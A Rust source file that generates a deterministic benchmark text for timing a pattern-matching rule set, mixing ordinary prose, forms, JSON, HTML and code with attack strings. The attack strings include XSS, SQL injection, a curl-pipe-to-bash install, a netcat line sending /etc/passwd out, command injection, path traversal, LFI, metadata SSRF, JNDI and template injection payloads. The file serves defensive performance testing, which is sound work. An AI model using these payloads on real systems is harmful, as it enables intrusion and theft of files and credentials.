//! A text to measure patterns on: what requests are made of, and what attacks are made of, mixed.

/// Bytes of it. Twice as many changed the clusters of a large rule set little.
const LENGTH: usize = 8 * 1024;

/// Prose, forms, JSON, HTML, code, shell, SQL, paths: pieces that put patterns in the middle of
/// something.
const PIECES: &[&str] = &[
    "the quick brown fox jumps over the lazy dog, ",
    "Please select all of the items from the list and order them by name. ",
    "It's been a while since I've updated this (see above); thanks! ",
    "In 2024, more than 50% of users on-line were asked to \"try again\". ",
    "user=alice&password=hunter2&remember=on&next=%2Fhome%3Ftab%3D1&",
    "{\"id\": 1234, \"name\": \"Bob O'Neil\", \"tags\": [\"a\", \"b-c\"], \"ok\": true, \"n\": null}",
    "{\"query\":\"query($id: ID!) { user(id: $id) { name email } }\",\"variables\":{}}",
    "<div class=\"row\"><a href=\"/path/to/page.html?x=1#top\">Link</a><br/></div>\n",
    "<p style='color: red'>Text &amp; more <b>bold</b></p>\n",
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:window.location='http://example.com/'",
    "function add(a, b) { return a.map(x => x + b[0]).filter(Boolean); }\n",
    "for (let i = 0; i < items.length; i++) { console.log(`${i}: ${items[i]}`); }\n",
    "if (user == null || user.role !== 'admin') throw new Error(\"denied\");\n",
    "def main(argv):\n    with open(argv[1], 'rb') as f:\n        print(f.read()[:10])\n",
    "import os; os.system('ls -la /tmp | grep foo > out.txt && cat out.txt')\n",
    "$ curl -s https://example.org/install.sh | bash -c \"$(cat)\"; echo $HOME\n",
    "; cat /etc/passwd | nc 10.0.0.1 4444 &",
    "$(id) `whoami` ${IFS}c\"\"at /e?c/pa*d",
    "cmd.exe /c \"dir c:\\windows\\system32\" & powershell -enc AAAA",
    "' or '1'='1' -- ",
    "1 union all select null, version(), @@datadir from information_schema.tables#",
    "SELECT a.id, COUNT(*) FROM orders a JOIN users u ON a.uid = u.id WHERE u.age > 18 GROUP BY 1;",
    "1); drop table users; insert into log values (char(65), 0x4142, sleep(5)) /* x */",
    "../../../../etc/shadow ..\\..\\boot.ini ....//....//",
    "/var/www/html/index.php?page=php://filter/convert.base64-encode/resource=config",
    "http://169.254.169.254/latest/meta-data/ file:///etc/hosts",
    "${jndi:ldap://x/a} {{7*7}} <%= 1 %> #{x} %{(#a=@b@c)}",
    "O:8:\"stdClass\":1:{s:1:\"a\";i:1;} rO0ABXNyABFqYXZh __proto__ constructor",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0",
    "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
    "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW",
    "4f3c2b1a-9e8d-47c6-b5a4-0123456789ab 2024-02-29T12:34:56.789Z 127.0.0.1:8080",
    "SGVsbG8gd29ybGQhIFRoaXMgaXMgYmFzZTY0Lg== %3Cscript%3E &lt;b&gt; \\u003cb\\x41",
    "gr\u{fc}\u{df}e, caf\u{e9}, \u{4f60}\u{597d}\u{4e16}\u{754c}, \u{43f}\u{440}\u{438}\u{432}\u{435}\u{442} ",
    "\r\nSet-Cookie: a=b\r\nLocation: /x\r\n\r\n",
];

/// The pieces in some order, again and again, often cut short; always the same.
pub(super) fn text() -> Vec<u8> {
    // Numerical Recipes' linear congruential generator.
    let mut random: u32 = 1;
    let mut next = |below: usize| {
        random = random.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
        (random >> 8) as usize % below.max(1)
    };
    let mut text = Vec::with_capacity(LENGTH + 128);
    while text.len() < LENGTH {
        let piece = PIECES[next(PIECES.len())].as_bytes();
        let start = if next(3) == 0 { next(piece.len()) } else { 0 };
        let end = if next(3) == 0 { start + next(piece.len() - start) } else { piece.len() };
        text.extend_from_slice(&piece[start..end]);
    }
    text
}
